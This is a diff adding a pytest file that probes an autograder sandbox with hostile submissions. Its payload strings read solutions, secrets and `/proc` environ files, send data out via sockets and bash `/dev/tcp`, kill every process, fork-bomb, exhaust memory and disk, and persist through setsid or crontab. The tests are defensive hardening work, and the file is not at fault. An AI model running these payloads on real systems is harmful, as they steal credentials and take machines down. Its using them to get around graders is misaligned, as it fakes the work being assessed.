@@ -1,0 +1,261 @@
+"""Ways out: files of the course, the network, other processes, and what could be left for the next one."""
+
+from __future__ import annotations
+
+import socket
+import time
+
+import pytest
+
+from autograder.results import Outcome
+
+from .conftest import (
+    AFTER,
+    ASSIGNMENT,
+    ATTACKED,
+    BEFORE,
+    LIMITS,
+    MARK,
+    ROOT,
+    SECRET,
+    WRONG,
+    Arena,
+    outputs_of,
+    results,
+    shown,
+)
+
+
+def test_reading_the_solution(arena: Arena) -> None:
+    """Answers with the course's own solution, if any of its forms can be read or imported."""
+    code = f"""
+import glob, importlib, json, os, sys
+found = []
+roots = [{str(ROOT)!r}, {str(arena.course)!r}, ".", "..", "/", "/root", "/home", "/old", "/proc/1/root"]
+for root in roots:
+    for pattern in (
+        "solutions/**/*.ipynb", "source/**/*.ipynb", "autograder/**/*.py", "**/compare.py",
+        "gradebook.db", ".deepdrills/secret", "submitted/**", "autograded/**", ".git/HEAD", "tests/**/*.py",
+    ):
+        if root != "/" or not pattern.startswith("**"):
+            found += glob.glob(os.path.join(root, pattern), recursive=True)[:5]
+for name in ("autograder.reference.convolution", "autograder.suites", "autograder.sandbox.worker"):
+    try:
+        found.append(importlib.import_module(name).__name__)
+    except ImportError:
+        pass
+for folder in sys.path + [os.path.dirname(os.__file__)]:
+    found += [name for name in glob.glob(os.path.join(folder, "autograder", "*"))]
+for folder in ("solutions", "source"):
+    path = f"{ROOT}/{{folder}}/{ASSIGNMENT}/convolution.ipynb"
+    try:
+        for cell in json.load(open(path))["cells"]:
+            if "def output_size" in "".join(cell["source"]):
+                exec("".join(cell["source"]))
+                found.append(path)
+    except OSError:
+        pass
+found = [path for path in found if "." in os.path.basename(path) or os.path.isdir(path)]
+print("found", found)
+if "output_size" not in globals():
+    def output_size(*a, **k): return len(found)
+"""
+    graded = arena.attack(code)
+    assert "found []" in outputs_of(graded, ATTACKED)
+
+
+def test_reading_the_secret(arena: Arena) -> None:
+    secret = arena.course / ".deepdrills" / "secret"
+    code = f"""
+import gc, os
+texts = [repr(dict(os.environ))]
+for name in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", {str(secret)!r}):
+    try:
+        texts.append(open(name).read())
+    except OSError:
+        pass
+texts += [one for one in gc.get_objects() if isinstance(one, str) and "secret" in one]
+print([text for text in texts if "under attack" in text or "DEEPDRILLS" in text])
+{WRONG}
+"""
+    graded = arena.attack(code)
+    assert '"[]\\n"' in outputs_of(graded, ATTACKED)
+    assert SECRET not in shown(graded)
+
+
+def test_network(arena: Arena) -> None:
+    """Asks a server for the answer, and sends it the inputs."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(0.1)
+        address = f'("127.0.0.1", {server.getsockname()[1]})'
+        code = f"""
+import socket, subprocess, urllib.request
+def output_size(*a, **k):
+    for attempt in (
+        lambda: socket.create_connection({address}, 0.2).sendall(repr(a).encode()),
+        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(repr(a).encode(), {address}),
+        lambda: urllib.request.urlopen("http://%s:%d/" % {address}, timeout=0.2),
+        lambda: subprocess.run(["bash", "-c", "echo x > /dev/tcp/%s/%d" % {address}], check=True),
+    ):
+        try:
+            attempt()
+        except Exception:
+            pass
+    return -1
+output_size(1, 1)
+"""
+        arena.attack(code)
+        with pytest.raises(TimeoutError):
+            server.accept()
+
+
+ENDINGS = {
+    "os_exit": "os._exit(0)",
+    "segfault": "ctypes.string_at(0)",
+    "abort": "os.abort()",
+    "kills_its_parent": "os.kill(os.getppid(), signal.SIGKILL); os.kill(1, signal.SIGKILL); os._exit(0)",
+    "kills_everything": "os.kill(-1, signal.SIGKILL); os.killpg(0, signal.SIGKILL); os._exit(0)",
+    "stops_everything": "os.kill(-1, signal.SIGSTOP); os.killpg(0, signal.SIGSTOP); os._exit(0)",
+    "closes_everything": "os.closerange(0, 1024)",
+    "raises_system_exit": "raise SystemExit",
+    "raises_keyboard_interrupt": "raise KeyboardInterrupt",
+    "endless": "while True: pass",
+    "endless_deaf": "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n{i}while True: pass",
+    "asleep_in_c": "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65)); time.sleep(60)",
+    "memory": "keep = []\n{i}while True: keep.append(bytearray(1 << 25))",
+    "memory_of_children": "[os.fork() or (bytearray(150 << 20), time.sleep(9)) for _ in range(9)]; "
+    "time.sleep(9)",
+    "fork_bomb": "while True:\n{i}    try: os.fork()\n{i}    except OSError: pass",
+    "thread_bomb": "while True: threading.Thread(target=time.sleep, args=(60,)).start()",
+    "disk": "while True: open(str(time.time_ns()), 'wb').write(bytes(1 << 20))",
+    "print": "while True: print('x' * 1000)",
+    "recursion": "exec('def f(): f()\\nf()', globals())",
+    "deep_recursion": "sys.setrecursionlimit(10**6); exec('def f(x): repr(x); f([x])\\nf([])', globals())",
+}
+IMPORTS = "import ctypes, os, signal, sys, threading, time\n"
+
+
+@pytest.mark.parametrize("line", ENDINGS.values(), ids=ENDINGS.keys())
+def test_ends_in_the_cell(line: str, arena: Arena) -> None:
+    started = time.monotonic()
+    graded = arena.attack(IMPORTS + WRONG + line.replace("{i}", "") + "\n")
+    assert time.monotonic() - started < LIMITS.submission_seconds
+    assert results(graded)[ATTACKED].outcome is not Outcome.PASSED
+
+
+IN_A_CALL = ("os_exit", "segfault", "kills_everything", "stops_everything", "closes_everything", "endless",
+             "endless_deaf", "raises_system_exit", "memory", "fork_bomb", "disk", "recursion")  # fmt: skip
+
+
+@pytest.mark.parametrize("line", [ENDINGS[name] for name in IN_A_CALL], ids=IN_A_CALL)
+def test_ends_in_a_call(line: str, arena: Arena) -> None:
+    body = line.replace("{i}", "    ").replace("{j}", "")
+    code = f"""{IMPORTS}
+agrees = refuses = lambda *a, **k: True
+def output_size(*a, **k):
+    if a == (6, 3) or k:
+        return 4
+    {body}
+    return -1
+"""
+    arena.attack(code)
+
+
+BACKGROUND = {
+    "new_session": f"""
+command = "while true; do touch /tmp/{MARK}; sleep .1; done"
+subprocess.Popen(["bash", "-c", command], start_new_session=True)
+""",
+    "double_fork": """
+if not os.fork():
+    os.setsid()
+    if not os.fork():
+        time.sleep(600)
+    os._exit(0)
+""",
+    "shell": "get_ipython().system('nohup setsid sleep 600 >/dev/null 2>&1 &')",
+    "thread": "threading.Thread(target=time.sleep, args=(600,)).start()",
+    "cron": "subprocess.run('echo x | crontab -; at now; systemd-run sleep 600', shell=True, "
+    "capture_output=True)",
+}
+
+
+@pytest.mark.parametrize("line", BACKGROUND.values(), ids=BACKGROUND.keys())
+def test_background_process(line: str, arena: Arena) -> None:
+    arena.attack(f"import os, subprocess, threading, time\n{line}\n{WRONG}")
+
+
+@pytest.mark.parametrize(
+    "folder", ["/tmp", "/notebook", ".", "~", "/dev/shm", "/var/tmp", str(ROOT), "/usr/lib", "/"]
+)
+def test_writing_outside(folder: str, arena: Arena) -> None:
+    """Inputs recorded for a later submission, in every folder that might last."""
+    place = f"os.path.join(os.path.expanduser({folder!r}), {MARK!r})"
+    code = f"""
+import os, sys
+print("found", os.path.exists({place}) and open({place}).read())
+def output_size(*a, **k):
+    try:
+        print(a, k, file=open({place}, "a"))
+    except OSError:
+        pass
+    return -1
+output_size("cell")
+"""
+    for _ in range(2):
+        assert "found False" in outputs_of(arena.attack(code), ATTACKED)
+
+
+def test_inputs_are_not_kept_for_a_later_exercise(arena: Arena) -> None:
+    """Every cell has run before the first hidden call: nothing recorded in one can be shown."""
+    code = """
+import builtins
+builtins.heard = []
+print("heard", builtins.heard)
+def output_size(*a, **k):
+    builtins.heard.append(a)
+    raise Exception
+"""
+
+    def show(notebook: dict[str, object]) -> None:
+        cells = notebook["cells"]
+        assert isinstance(cells, list)
+        cells.append(
+            {"cell_type": "code", "source": "print('later', builtins.heard)", "metadata": {}, "outputs": []}
+        )
+
+    graded = arena.attack(code, show)
+    assert "later [(6, 3)" in shown(graded)  # what its own visible checks asked
+    assert "227" not in shown(graded)
+
+
+def test_a_crash_after_the_calls_does_not_replay_what_was_heard(arena: Arena) -> None:
+    """A new process after a crash starts in a fresh folder, and its outputs are those of the first."""
+    code = f"""
+import os
+def names(folder):
+    try:
+        return os.listdir(folder)
+    except OSError:
+        return []
+print("kept", names(".") + [name for name in names("/tmp") if {MARK!r} in name])
+def output_size(*a, **k):
+    for folder in (".", "/tmp"):
+        try:
+            open(f"{{folder}}/{MARK}" + "_".join(map(str, a)), "w").close()
+        except OSError:
+            pass
+    if len(os.listdir(".")) > 4:
+        os._exit(1)
+    return -1
+"""
+    graded = arena.attack(code)
+    assert "kept []" in outputs_of(graded, ATTACKED)
+    assert MARK not in shown(graded)
+
+
+def test_the_others_are_as_they_stood(arena: Arena) -> None:
+    """A later cell that overwrites the names of other exercises takes nothing from them."""
+    code = f"{WRONG}\n{BEFORE} = {AFTER} = None\ndel as_array\nnp.maximum = np.max = None\n"
+    graded = arena.attack(code, spares=False)
+    assert results(graded)[BEFORE].points == arena.full[BEFORE]
